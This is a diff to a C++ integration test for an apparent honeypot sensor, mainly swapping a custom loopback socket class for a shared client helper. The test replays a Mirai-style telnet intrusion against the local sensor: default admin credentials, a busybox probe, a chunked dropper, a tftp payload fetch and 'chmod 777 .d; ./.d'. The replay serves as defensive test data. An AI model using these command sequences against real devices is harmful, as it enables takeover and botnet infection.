@@ -18,6 +18,7 @@
 
 #include "core/hex.h"
 #include "testing/local_http_server.h"
+#include "testing/loopback_client.h"
 #include "testing/subprocess.h"
 #include "testing/temp_dir.h"
 
@@ -44,51 +45,6 @@ std::string sha256_of(std::string_view data) {
   EVP_Digest(data.data(), data.size(), out, &size, EVP_sha256(), nullptr);
   return to_hex(out, size);
 }
-
-class Connection {
- public:
-  explicit Connection(int port) {
-    for (int i = 0; i < 200; ++i) {  // mitsu run may still be starting
-      fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-      sockaddr_in a{};
-      a.sin_family = AF_INET;
-      a.sin_port = htons(static_cast<std::uint16_t>(port));
-      a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-      if (::connect(fd_, reinterpret_cast<sockaddr*>(&a), sizeof(a)) == 0) {
-        return;
-      }
-      ::close(fd_);
-      fd_ = -1;
-      std::this_thread::sleep_for(25ms);
-    }
-  }
-  ~Connection() {
-    if (fd_ >= 0) {
-      ::close(fd_);
-    }
-  }
-  bool ok() const { return fd_ >= 0; }
-  void send(std::string_view s) { (void)::send(fd_, s.data(), s.size(), MSG_NOSIGNAL); }
-  std::string until(std::string_view marker, std::chrono::milliseconds limit = 5s) {
-    auto end = std::chrono::steady_clock::now() + limit;
-    while (got_.find(marker) == std::string::npos && std::chrono::steady_clock::now() < end) {
-      pollfd p{fd_, POLLIN, 0};
-      if (::poll(&p, 1, 20) > 0) {
-        char b[4096];
-        ssize_t n = ::read(fd_, b, sizeof(b));
-        if (n <= 0) {
-          break;
-        }
-        got_.append(b, static_cast<std::size_t>(n));
-      }
-    }
-    return got_;
-  }
-
- private:
-  int fd_ = -1;
-  std::string got_;
-};
 
 TEST(SensorIntegration, BotSessionsEndWithEventsAndFilesInTheStore) {
   testing::TempDir dir("sensor-integration");
@@ -124,13 +80,13 @@ TEST(SensorIntegration, BotSessionsEndWithEventsAndFilesInTheStore) {
                             7) +
                         std::string(100, '\x42');
   {
-    Connection c(telnet_port);
-    ASSERT_TRUE(c.ok());
-    c.until("login: ");
+    testing::LoopbackClient c(telnet_port, 5s);  // mitsu run may still be starting
+    ASSERT_TRUE(c.connected());
+    c.read_until("login: ");
     c.send("admin\r\nadmin\r\n");
-    c.until("# ");
+    c.read_until("# ");
     c.send("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\ncd /tmp\r\n");
-    EXPECT_NE(c.until("applet not found").find("ECCHI: applet not found"), std::string::npos);
+    EXPECT_NE(c.read_until("applet not found").find("ECCHI: applet not found"), std::string::npos);
     for (std::size_t at = 0; at < dropper.size(); at += 40) {
       std::string chunk;
       for (std::size_t i = at; i < std::min(dropper.size(), at + 40); ++i) {
@@ -142,10 +98,10 @@ TEST(SensorIntegration, BotSessionsEndWithEventsAndFilesInTheStore) {
                        http.port()));
     c.send(fmt::format("tftp -g -r mips 127.0.0.1 {}\r\n", tftp_port));
     c.send("chmod 777 .d; ./.d\r\n");
-    c.until("./.d\r\n");
+    c.read_until("./.d\r\n");
     std::this_thread::sleep_for(1s);  // downloads finish on the downloader's thread
     c.send("exit\r\n");
-    c.until("never", 1s);
+    c.read_until("never", 1s);
   }
   run.send_signal(SIGTERM);
   testing::ProcessResult stopped = run.wait();
